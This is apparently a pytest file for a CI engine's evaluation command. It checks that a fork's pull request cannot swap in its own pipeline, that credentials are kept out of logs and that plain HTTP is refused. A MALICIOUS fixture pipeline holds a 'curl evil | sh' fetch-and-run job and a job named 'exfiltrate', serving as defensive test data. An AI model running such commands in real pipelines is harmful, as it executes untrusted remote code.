"""`python -m engine` as a project's eval command, end to end.

Local bare repositories stand for the upstream repository and a fork; an HTTPS test
coordinator holds the eval job. Nothing is cloned beforehand: the code directory is the
empty one a worker creates, and the CI directory does not exist. Each event kind gets
the variables the coordinator stores for it (docs/eval-job.md).
"""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path
from typing import Any

import pytest

from tests.support.coordinator_server import FakeCoordinator
from tests.support.engine_run import Result, run_cli

PARENT = "eval-1"
TRIGGERS_PATH = f"/api/v1/jobs/{PARENT}/triggers"

TRUSTED = """\
print("trusted pipeline, event %s" % ctx.event)
test = trigger_job("test", job_command = "make test")
if ctx.branch == "main":
    trigger_job("deploy", job_command = "make deploy", depends_on = [test])
if ctx.tag:
    trigger_job("release", job_command = "make release", env = {"TAG": ctx.tag})
if ctx.pr != None:
    trigger_job("pr-checks", job_command = "make pr",
                env = {"CHANGED": ",".join(changed_files())})
    if ctx.pr.is_fork:
        trigger_job("fork-audit", job_command = "make audit")
"""
MALICIOUS = """\
print("MALICIOUS pipeline ran")
trigger_job("deploy", job_command = "curl evil | sh")
trigger_job("pwned", job_command = "exfiltrate")
"""


def git(cwd: Path, *args: str) -> str:
    ident = ["-c", "user.name=t", "-c", "user.email=t@example.com", "-c", "init.defaultBranch=main"]
    return subprocess.run(["git", *ident, *args], cwd=cwd, check=True, capture_output=True,
                          text=True).stdout.strip()


def commit(work: Path, files: dict[str, str], message: str) -> str:
    for name, text in files.items():
        (work / name).parent.mkdir(parents=True, exist_ok=True)
        (work / name).write_text(text)
    git(work, "add", "-A")
    git(work, "commit", "-qm", message)
    return git(work, "rev-parse", "HEAD")


class Repos:
    """The upstream and fork remotes and the commits each event names."""

    def __init__(self, root: Path) -> None:
        self.upstream = root / "upstream.git"
        self.fork = root / "fork.git"
        git(root, "init", "-q", "--bare", str(self.upstream))
        work = root / "work"
        git(root, "clone", "-q", str(self.upstream), str(work))
        self.first = commit(work, {"pipeline.star": TRUSTED, "README.md": "# shop\n"}, "one")
        self.base = commit(work, {"src/app.py": "v1\n"}, "two")
        git(work, "tag", "v1.0.0")
        git(work, "push", "-q", "origin", "main", "v1.0.0")
        git(work, "checkout", "-q", "-b", "feature/x")
        commit(work, {"src/x.py": "x\n"}, "three")
        self.head = commit(work, {"src/y.py": "y\n"}, "four")
        git(work, "push", "-q", "origin", "feature/x")
        git(work, "checkout", "-q", "main")
        git(work, "merge", "-q", "--no-ff", "feature/x", "-m", "merge")
        self.merge = git(work, "rev-parse", "HEAD")
        git(work, "push", "-q", "origin", "main")
        git(root, "clone", "-q", "--bare", str(self.upstream), str(self.fork))
        fork_work = root / "fork-work"
        git(root, "clone", "-q", str(self.fork), str(fork_work))
        git(fork_work, "checkout", "-q", self.base)
        git(fork_work, "checkout", "-q", "-b", "evil")
        self.fork_head = commit(fork_work, {"pipeline.star": MALICIOUS, "lib/x.star": "x = 1\n",
                                            "src/z.py": "z\n"}, "evil")
        git(fork_work, "push", "-q", "origin", "evil")


@pytest.fixture(scope="module")
def repos(tmp_path_factory: pytest.TempPathFactory) -> Repos:
    return Repos(tmp_path_factory.mktemp("remotes"))


def eval_env(repos: Repos, event: str) -> dict[str, str]:
    """The job env the coordinator stores for `event` (eval-job-facts §1.3)."""
    up, fork = str(repos.upstream), str(repos.fork)
    common = {"REACTORCIDE_CI": "true", "REACTORCIDE_PROVIDER": "github",
              "REACTORCIDE_JOB_KIND": "eval", "REACTORCIDE_REPO": "acme/shop",
              "REACTORCIDE_CHECKOUT_MODE": "isolated", "REACTORCIDE_EVENT_TYPE": event,
              "REACTORCIDE_CI_SOURCE_URL": up}
    if event == "push":
        return {**common, "REACTORCIDE_SOURCE_URL": up, "REACTORCIDE_SHA": repos.merge,
                "REACTORCIDE_BRANCH": "main", "REACTORCIDE_HEAD_ACTOR": "",
                "REACTORCIDE_CI_SOURCE_REF": repos.merge}
    if event == "tag_created":
        return {**common, "REACTORCIDE_SOURCE_URL": up, "REACTORCIDE_SHA": repos.base,
                "REACTORCIDE_BRANCH": "v1.0.0", "REACTORCIDE_CI_SOURCE_REF": repos.base}
    is_fork = event.startswith("fork:")
    kind = event.removeprefix("fork:")
    pr = {**common, "REACTORCIDE_EVENT_TYPE": kind, "REACTORCIDE_BRANCH": "main",
          "REACTORCIDE_PR_NUMBER": "9", "REACTORCIDE_PR_BASE_REF": "main",
          "REACTORCIDE_BASE_REF": "main", "REACTORCIDE_DIFF_BASE": repos.base,
          "REACTORCIDE_BASE_URL": up, "REACTORCIDE_HEAD_ACTOR": "someone",
          "REACTORCIDE_ACTOR_SUBJECTS": '["vcs_user:github/someone"]'}
    if is_fork:
        return {**pr, "REACTORCIDE_SOURCE_URL": fork, "REACTORCIDE_SHA": repos.fork_head,
                "REACTORCIDE_PR_REF": "evil", "REACTORCIDE_HEAD_REF": "evil",
                "REACTORCIDE_HEAD_URL": fork, "REACTORCIDE_IS_FORK_PR": "true",
                "REACTORCIDE_CI_SOURCE_REF": repos.base}
    if kind == "pull_request_merged":
        return {**pr, "REACTORCIDE_SOURCE_URL": up, "REACTORCIDE_SHA": repos.merge,
                "REACTORCIDE_PR_REF": "feature/x", "REACTORCIDE_HEAD_REF": "feature/x",
                "REACTORCIDE_HEAD_URL": up, "REACTORCIDE_CI_SOURCE_REF": repos.merge}
    return {**pr, "REACTORCIDE_SOURCE_URL": up, "REACTORCIDE_SHA": repos.head,
            "REACTORCIDE_PR_REF": "feature/x", "REACTORCIDE_HEAD_REF": "feature/x",
            "REACTORCIDE_HEAD_URL": up, "REACTORCIDE_CI_SOURCE_REF": repos.base}


def run_eval(tmp_path: Path, server: FakeCoordinator, env: dict[str, str]) -> tuple[
        Result, Path, Path]:
    job = tmp_path / "job"
    code = job / "src"
    code.mkdir(parents=True)  # the worker creates it, empty; /job/ci it does not
    triggers = job / "triggers.json"
    full = {**env, "REACTORCIDE_JOB_ID": PARENT, "REACTORCIDE_COORDINATOR_URL": server.url,
            "REACTORCIDE_API_TOKEN": server.token, "REACTORCIDE_CODE_DIR": str(code),
            "REACTORCIDE_CI_SOURCE_DIR": str(job / "ci"),
            "REACTORCIDE_TRIGGERS_FILE": str(triggers),
            "REQUESTS_CA_BUNDLE": os.environ.get("REQUESTS_CA_BUNDLE", "")}
    return run_cli(env=full, cwd=code, timeout=120), triggers, code


# One event of each checkout: a push, a tag, a pull request from the same repository (open,
# and merged: the code at the merge commit) and from a fork. A pull request updated or
# closed is checked out as one opened; what ctx says for every event kind is
# tests/event/test_event_context.py's table.
EXPECTED: dict[str, tuple[list[str], str | None]] = {
    # event -> (jobs, CHANGED of pr-checks)
    "push": (["test", "deploy"], None),
    "tag_created": (["test", "release"], None),
    "pull_request_opened": (["test", "pr-checks"], "src/x.py,src/y.py"),
    "pull_request_merged": (["test", "pr-checks"], "src/x.py,src/y.py"),
    "fork:pull_request_opened": (["test", "pr-checks", "fork-audit"],
                                 "lib/x.star,pipeline.star,src/z.py"),
}


@pytest.mark.parametrize("event", list(EXPECTED))
def test_eval_job(event: str, repos: Repos, tmp_path: Path,
                  coordinator: FakeCoordinator) -> None:
    coordinator.add_job("eval", "running", job_id=PARENT)
    env = eval_env(repos, event)
    result, triggers, code = run_eval(tmp_path, coordinator, env)
    assert result.code == 0, result.output
    assert "trusted pipeline" in result.stderr
    assert "MALICIOUS" not in result.output
    assert coordinator.refusals == []
    [post] = coordinator.requests_to(TRIGGERS_PATH, "POST")
    assert post.headers.get("authorization") == f"Bearer {coordinator.token}"
    body: dict[str, Any] = json.loads(post.body)
    assert list(body) == ["type", "trigger_type", "operation_id", "jobs"]
    assert body["type"] == "trigger_job"
    assert body["trigger_type"] == "runnerlib"
    names, changed = EXPECTED[event]
    assert [job["job_name"] for job in body["jobs"]] == names
    for job in body["jobs"]:
        assert job["source_type"] == "git"
        assert job["source_url"] == env["REACTORCIDE_SOURCE_URL"]
        assert job["source_ref"] == env["REACTORCIDE_SHA"]
        assert job["ci_source_type"] == "git"
        assert job["job_command"].startswith("make ")
        assert "ci_source_url" not in job and "worker_class" not in job
    if changed is not None:
        [checks] = [job for job in body["jobs"] if job["job_name"] == "pr-checks"]
        assert checks["env"] == {"CHANGED": changed}
    assert not triggers.exists()  # 201: handed in
    assert f"{body['operation_id']}-0" in result.stdout
    assert coordinator.token not in result.output
    # The code is at the event's commit, and not the whole history was fetched when it
    # need not be.
    assert git(code, "rev-parse", "HEAD") == env["REACTORCIDE_SHA"]
    if event == "push":  # the merge commit and its parents, not the whole history
        assert (code / ".git" / "shallow").exists()
        assert git(code, "rev-list", "--count", "HEAD") == "3"


def test_a_fork_changing_the_pipeline_is_said_in_the_log(
        repos: Repos, tmp_path: Path, coordinator: FakeCoordinator) -> None:
    coordinator.add_job("eval", "running", job_id=PARENT)
    result, _, code = run_eval(tmp_path, coordinator, eval_env(repos, "fork:pull_request_opened"))
    assert result.code == 0, result.output
    assert ("note: pull request #9 changes pipeline files: lib/x.star, pipeline.star; the "
            "trusted CI source's version decided") in result.stderr
    assert "MALICIOUS" in (code / "pipeline.star").read_text()  # there, never evaluated


def test_code_pipeline_is_refused_for_a_fork(repos: Repos, tmp_path: Path,
                                             coordinator: FakeCoordinator) -> None:
    coordinator.add_job("eval", "running", job_id=PARENT)
    policy = tmp_path / "policy.toml"
    policy.write_text('[trust]\npipeline_source = "code"\n')
    env = {**eval_env(repos, "fork:pull_request_opened"),
           "REACTORCIDE_PIPELINE_POLICY": str(policy)}
    result, triggers, _ = run_eval(tmp_path, coordinator, env)
    assert result.code == 2
    assert "refused for a pull request from a fork" in result.stderr
    assert "MALICIOUS" not in result.output
    assert coordinator.requests_to(TRIGGERS_PATH, "POST") == []
    assert not triggers.exists()


def test_a_refused_submission_keeps_the_file(repos: Repos, tmp_path: Path,
                                             coordinator: FakeCoordinator) -> None:
    coordinator.add_job("eval", "running", job_id=PARENT)
    for _ in range(10):
        coordinator.enqueue_fault(500, '{"error":"internal_error"}')
    result, triggers, _ = run_eval(tmp_path, coordinator, eval_env(repos, "push"))
    assert result.code == 1
    assert triggers.exists()
    assert json.loads(triggers.read_text())["jobs"][0]["job_name"] == "test"


def test_a_failed_clone_names_the_url_without_credentials(
        repos: Repos, tmp_path: Path, coordinator: FakeCoordinator) -> None:
    coordinator.add_job("eval", "running", job_id=PARENT)
    env = {**eval_env(repos, "push"),
           "REACTORCIDE_CI_SOURCE_URL": "https://user:hunter2@127.0.0.1:1/acme/shop.git"}
    result, triggers, _ = run_eval(tmp_path, coordinator, env)
    assert result.code == 2
    assert "cannot check out the CI source from https://127.0.0.1:1/acme/shop.git" \
        in result.stderr
    assert "hunter2" not in result.output
    assert coordinator.requests == []
    assert not triggers.exists()


def test_plain_http_is_refused_before_cloning_or_any_request(
        repos: Repos, tmp_path: Path, http_coordinator: FakeCoordinator) -> None:
    http_coordinator.add_job("eval", "running", job_id=PARENT)
    result, triggers, code = run_eval(tmp_path, http_coordinator, eval_env(repos, "push"))
    assert result.code == 2
    assert "job command" in result.stderr
    assert http_coordinator.requests == []
    assert not (code / ".git").exists()
    assert not triggers.exists()
